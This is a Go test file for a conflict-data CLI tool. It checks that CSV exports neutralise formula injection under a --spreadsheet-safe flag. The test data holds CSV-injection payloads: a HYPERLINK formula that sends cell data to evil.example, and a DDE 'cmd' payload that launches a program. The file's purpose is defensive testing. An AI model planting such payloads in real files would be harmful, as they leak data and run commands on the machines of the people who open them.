package main

import (
	"encoding/csv"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// TestSpreadsheetSafe: untrusted text that a spreadsheet would run as a
// formula (a UCDP side named =HYPERLINK(…)) is written as it came by
// default, for R and pandas, and with a leading quote under
// --spreadsheet-safe, by every command that writes CSV; a negative
// coordinate stays a number either way.
func TestSpreadsheetSafe(t *testing.T) {
	const formula = `=HYPERLINK("http://evil.example/?"&A1,"click")`
	dir := t.TempDir()
	db := filepath.Join(dir, "v.db")
	recs := readCSV(t, ucdpSample)
	col := func(name string) int { return slices.Index(recs[0], name) }
	var row []string
	for _, r := range recs[1:] {
		if strings.HasPrefix(r[col("latitude")], "-") {
			row = r
			break
		}
	}
	if row == nil {
		t.Fatal("no row of the sample south of the equator")
	}
	lat := row[col("latitude")]
	row[col("side_a")] = formula
	in := filepath.Join(dir, "ged.csv")
	writeCSV(t, in, [][]string{recs[0], row})
	vigilIn(t, db, "import", "ucdp", in, "--version", "23.1")
	mustRun(t, "--db", db, "ach", "create", "c", "--title", "A case")
	mustRun(t, "--db", db, "ach", "hypothesis", "add", "c", "H1", "One")
	mustRun(t, "--db", db, "ach", "evidence", "add", "--kind", "statement", "--source", "@SUM(A1)", "--", "c", "E1", "-1+cmd|' /C calc'!A0")

	for _, tt := range []struct {
		name string
		args []string
		text string // the untrusted text as the file holds it
		num  string // a number that must stay one
	}{
		{"export csv", []string{"export", "csv"}, formula, lat},
		{"export acled-csv", []string{"export", "acled-csv"}, formula, lat},
		{"export ucdp-csv", []string{"export", "ucdp-csv"}, formula, lat},
		{"events list", []string{"events", "list", "--format", "csv"}, formula, lat},
		{"ach show", []string{"ach", "show", "c", "--format", "csv"}, "-1+cmd|' /C calc'!A0", "1"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			for _, safe := range []bool{false, true} {
				args := tt.args
				if safe {
					args = append(slices.Clone(args), "--spreadsheet-safe")
				}
				recs, err := csv.NewReader(strings.NewReader(vigilIn(t, db, args...))).ReadAll()
				if err != nil {
					t.Fatal(err)
				}
				var cells []string
				for _, r := range recs {
					cells = append(cells, r...)
				}
				raw := slices.ContainsFunc(cells, func(c string) bool { return strings.HasPrefix(c, tt.text) })
				quoted := slices.ContainsFunc(cells, func(c string) bool { return strings.HasPrefix(c, "'"+tt.text) })
				if raw == safe || quoted != safe {
					t.Errorf("--spreadsheet-safe=%v: the text written as it came %v, quoted %v", safe, raw, quoted)
				}
				if !slices.Contains(cells, tt.num) {
					t.Errorf("--spreadsheet-safe=%v: the number %s is not written as it is", safe, tt.num)
				}
			}
		})
	}
	for _, args := range [][]string{{"export", "geojson", "--spreadsheet-safe"}, {"events", "list", "--spreadsheet-safe"}} {
		if _, errOut, code := vigilRun(t, append([]string{"--db", db}, args...)...); code == 0 || !strings.Contains(errOut, "--spreadsheet-safe: for CSV only") {
			t.Errorf("vigil %v: exit %d, %q; want --spreadsheet-safe refused", args, code, errOut)
		}
	}
}
